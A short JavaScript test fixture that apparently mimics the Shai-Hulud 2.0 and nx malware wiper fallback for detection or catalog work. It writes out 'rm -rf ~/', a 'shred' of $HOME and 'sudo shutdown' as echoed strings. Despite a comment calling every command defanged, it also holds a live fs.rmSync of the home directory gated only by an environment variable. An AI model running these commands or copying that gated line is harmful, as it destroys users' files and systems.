// Mimics the Shai-Hulud 2.0 wiper fallback and nx's appended shutdown (catalog §3.27): destroy the home directory when exfiltration fails. Defanged: every command is echoed, never run.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
function wipe() {
  execSync('echo fixture: rm -rf ~/');
  execSync('echo fixture: shred -uvz -n 1 $HOME/*');
  execSync('echo fixture: sudo shutdown -h 0');
  if (process.env.FIXTURE_NEVER_SET === 'yes') fs.rmSync(os.homedir(), { recursive: true, force: true });
}
console.log(typeof wipe);
